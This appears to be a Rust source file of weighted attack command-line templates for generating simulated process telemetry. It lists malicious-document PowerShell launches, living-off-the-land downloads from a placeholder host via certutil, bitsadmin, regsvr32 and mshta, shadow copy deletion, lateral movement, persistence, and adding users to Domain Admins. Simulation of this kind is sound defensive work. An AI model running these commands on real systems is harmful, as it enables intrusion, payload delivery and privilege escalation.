//! The command lines of attacks.

use super::super::programs::{Program, program};

/// Programs started by malicious documents.
#[rustfmt::skip] // One program a line.
pub(super) const MACROS: &[Program] = &[
    program(5, "WINWORD.EXE", "powershell.exe", r"powershell.exe -nop -w hidden -enc <payload>"),
    program(4, "EXCEL.EXE", "powershell.exe", r"powershell -NoP -NonI -W Hidden -Exec Bypass -Enc <payload>"),
    program(3, "OUTLOOK.EXE", "powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -e <payload>"),
    program(3, "POWERPNT.EXE", "powershell.exe", r"powershell -ec <payload>"),
    program(2, "cmd.exe", "powershell.exe", r"powershell.exe /EncodedCommand <payload>"),
    program(2, "EXCEL.EXE", "cmd.exe", r"cmd.exe /c start /min powershell -w hidden -c IEX(irm http://<site>/<hex>)"),
    program(2, "WINWORD.EXE", "<hex>.exe", r"C:\Users\<user>\AppData\Local\Temp\<hex>.exe"),
    program(1, "WINWORD.EXE", "wscript.exe", r#"wscript.exe //B "C:\Users\<user>\AppData\Local\Temp\<hex>.js""#),
    program(1, "AcroRd32.exe", "cmd.exe", r"cmd.exe /c C:\Users\<user>\AppData\Local\Temp\<hex>.bat"),
];

/// Misuse of system tools (LOLBAS).
#[rustfmt::skip] // One program a line.
pub(super) const LIVING_OFF_THE_LAND: &[Program] = &[
    program(3, "cmd.exe", "certutil.exe", r"certutil -urlcache -split -f http://<site>/<hex>.txt C:\Users\Public\<hex>.exe"),
    program(2, "invoice.exe", "certutil.exe", r"certutil -decode C:\Users\<user>\AppData\Local\Temp\<hex>.b64 <hex>.dll"),
    program(3, "cmd.exe", "rundll32.exe", r"rundll32.exe C:\Users\Public\<hex>.dll,Start"),
    program(2, "updater.exe", "rundll32.exe", r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://<site>/<hex>")"#),
    program(3, "cmd.exe", "regsvr32.exe", r"regsvr32 /s /n /u /i:http://<site>/<hex>.sct scrobj.dll"),
    program(2, "explorer.exe", "mshta.exe", r"mshta http://<site>/<hex>.hta"),
    program(2, "invoice.exe", "mshta.exe", r#"mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""cmd /c <hex>.bat"", 0:close")"#),
    program(3, "cmd.exe", "wmic.exe", r#"wmic /node:SRV-<n> process call create "cmd.exe /c C:\Windows\Temp\<hex>.exe""#),
    program(2, "svch0st.exe", "wmic.exe", r"wmic shadowcopy delete"),
    program(3, "powershell.exe", "bitsadmin.exe", r"bitsadmin /transfer <hex> /download /priority high http://<site>/<hex>.exe C:\Users\Public\<hex>.exe"),
    program(3, "<hex>.exe", "cmd.exe", r"cmd.exe /q /c copy /y C:\Users\Public\<hex>.dll \\SRV-<n>\ADMIN$\Temp\<hex>.dll"),
    program(2, "<hex>.exe", "rundll32.exe", r"rundll32.exe C:\ProgramData\<hex>\<hex>.dat,#1"),
    program(3, "updater.exe", "powershell.exe", r"powershell -w hidden -enc <payload>"),
];

/// Exploration from a compromised machine.
#[rustfmt::skip] // One program a line.
pub(super) const DISCOVERY: &[Program] = &[
    program(4, "powershell.exe", "whoami.exe", r#""C:\Windows\system32\whoami.exe" /all"#),
    program(3, "powershell.exe", "net.exe", r#""C:\Windows\system32\net.exe" group "Domain Admins" /domain"#),
    program(2, "powershell.exe", "nltest.exe", r"nltest /domain_trusts /all_trusts"),
    program(2, "cmd.exe", "net.exe", r"net view /all /domain"),
    program(2, "cmd.exe", "systeminfo.exe", r"systeminfo"),
    program(1, "powershell.exe", "schtasks.exe", r"schtasks /create /sc minute /mo <n> /tn Updater /tr C:\Users\Public\<hex>.exe /f"),
];

/// Adding a member to a group from the command line.
#[rustfmt::skip] // One program a line.
pub(super) const GRANTS: &[Program] = &[
    program(3, "cmd.exe", "net.exe", r#"net group "Domain Admins" <user> /add /domain"#),
    program(2, "powershell.exe", "net.exe", r"net localgroup Administrators <user> /add"),
    program(1, "powershell.exe", "powershell.exe", r#"powershell -nop -c Add-ADGroupMember "Enterprise Admins" <user>"#),
];

#[cfg(test)]
mod tests {
    use super::super::super::programs::start_each;
    use super::*;

    #[test]
    fn every_template_can_be_filled() {
        [MACROS, LIVING_OFF_THE_LAND, DISCOVERY, GRANTS].into_iter().for_each(start_each);
    }
}
